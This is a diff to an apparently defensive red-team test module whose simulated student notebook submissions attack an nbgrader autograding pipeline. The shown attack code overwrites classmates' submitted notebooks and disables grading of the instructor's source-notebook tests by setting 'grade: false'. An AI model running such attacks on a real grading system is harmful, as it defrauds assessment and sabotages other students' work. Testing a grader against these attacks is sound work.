@@ -1,4 +1,5 @@
-"""Attacks on the grading pipeline, as submissions of the sample assignment (ex05_adam), for the red-team test.
+"""Attacks on the grading pipeline, as submissions of the sample assignment (adamlab.grading.confirm.samples),
+for the red-team test.
 
 Each :class:`Attack` is a notebook a determined student could hand in: the released notebook with the
 ``adam_step`` cell filled in (``solution``: the correct code, a deliberately wrong one, or ``None`` for the
@@ -49,10 +50,13 @@ grading, no such process may be alive and no such file may exist outside the cou
 
 from __future__ import annotations
 
+import os
 from pathlib import Path
 from typing import NamedTuple
 
 from submissions import CORRECT, SIGNATURE, Submission, make_notebook
+
+from adamlab.grading.confirm.samples import ASSIGNMENT
 
 MARKER = "adamlab-attack-"  # in every file name, planted text and helper command line an attack leaves
 POINTS = 9.0  # the sample assignment's autograded points
@@ -276,12 +280,14 @@ _HEADER = (
 
 def _cell(student: str, body: str, **snippets: str) -> str:
     """An attack cell: the toolkit, then ``body``, where ``@@NAME@@`` becomes snippet ``name`` as code and
-    ``@@NAME_TEXT@@`` the same snippet as a string literal; ``@@STUDENT@@`` becomes the attacker's name."""
+    ``@@NAME_TEXT@@`` the same snippet as a string literal; ``@@STUDENT@@`` becomes the attacker's name and
+    ``@@ASSIGNMENT@@`` the sample assignment's."""
     toolkit = _TOOLKIT.replace("@@STUDENT@@", student)
     for name, code in snippets.items():
         code = code.replace("@@STUDENT@@", student)
         body = body.replace(f"@@{name.upper()}_TEXT@@", repr(code)).replace(f"@@{name.upper()}@@", code)
-    return (_HEADER + f"_TOOLKIT = {toolkit!r}\n" + toolkit + body).replace("@@STUDENT@@", student)
+    cell = _HEADER + f"_TOOLKIT = {toolkit!r}\n" + toolkit + body
+    return cell.replace("@@STUDENT@@", student).replace("@@ASSIGNMENT@@", ASSIGNMENT)
 
 
 # --- 1. nbgrader_config.py: code the grader itself runs, outside any jail ------------------------------------------
@@ -489,7 +495,7 @@ _spawn(_TOOLKIT + r"""
 def _blank():
     for r in _ROOTS:
         for rel in ("exercises", os.path.join("_grading", "release")):
-            for p in glob.glob(os.path.join(r, rel, "ex05_adam", "*.ipynb")):
+            for p in glob.glob(os.path.join(r, rel, "@@ASSIGNMENT@@", "*.ipynb")):
                 text = _read(p, 1 << 24)
                 if text:
                     return text
@@ -512,7 +518,7 @@ def _step():
         for kind in ("submitted", "autograded"):
             targets.update(glob.glob(os.path.join(r, "_grading", kind, "honest_2", "*", "*.ipynb")))
             targets.update(glob.glob(os.path.join(r, kind, "honest_2", "*", "*.ipynb")))
-    for d in _up(os.getcwd()):  # the cwd is .../submitted/<me>/ex05_adam: the classmates are siblings
+    for d in _up(os.getcwd()):  # the cwd is .../submitted/<me>/<assignment>: the classmates are siblings
         targets.update(glob.glob(os.path.join(d, "honest_2", "*", "*.ipynb")))
     for t in targets:
         if _STUB and _read(t, 1 << 24) != _STUB:
@@ -578,10 +584,10 @@ _until_graded(_step, linger=5.0, every=0.02)
 # --- 6. the instructor's source notebook ---------------------------------------------------------------------------
 _SOURCE_NOTEBOOK = r"""
 # ATTACK (1/2): blind the grader's confirmation: set `grade: false` on every test cell of the instructor's source
-# notebook solutions/ex05_adam/ex05_adam.ipynb (or source/ex05_adam/ in a course copy), which the grader reads to
+# notebook in solutions/@@ASSIGNMENT@@/ (or source/@@ASSIGNMENT@@/ in a course copy), which the grader reads to
 # know what to confirm. (The submitted notebook's own "grade: false" would be ignored: nbgrader restores locked cells.)
 for _root in _ROOTS:
-    for _p in glob.glob(os.path.join(_root, "s*", "ex05_adam", "*.ipynb")):  # solutions/, or nbgrader's source/
+    for _p in glob.glob(os.path.join(_root, "s*", "@@ASSIGNMENT@@", "*.ipynb")):  # solutions/, or nbgrader's source/
         try:
             _nb = json.loads(_read(_p, 1 << 24))
             for _c in _nb["cells"]:
@@ -1020,7 +1026,7 @@ ATTACKS: list[Attack] = [
     Attack(
         "attack_06_source_notebook",
         "source notebook",
-        "sets grade: false on the test cells of solutions/ex05_adam/ex05_adam.ipynb (nothing left to confirm) and "
+        "sets grade: false on the test cells of the source notebook in solutions/ (nothing left to confirm) and "
         "turns its kernel's test cells into `pass` (the kernel says 9). A stub: 0.",
         None,
         (_cell("attack_06_source_notebook", _SOURCE_NOTEBOOK),),
@@ -1201,7 +1207,7 @@ def leftovers(*folders: str | Path) -> list[Path]:
     the red-team test's to compare."""
     found = []
     for folder in folders:
-        for path in Path(folder).rglob("*"):
+        for path in _walk(Path(folder)):
             try:
                 if MARKER in path.name or (
                     path.is_file()
@@ -1213,6 +1219,14 @@ def leftovers(*folders: str | Path) -> list[Path]:
             except OSError:
                 continue
     return found
+
+
+def _walk(folder: Path):
+    """Every path under ``folder``, skipping what vanishes while it is read (other tests' temporary folders come
+    and go in /tmp while the class is graded)."""
+    for parent, dirs, files in os.walk(folder):
+        for name in dirs + files:
+            yield Path(parent) / name
 
 
 def remove_planted(*folders: str | Path) -> list[Path]:
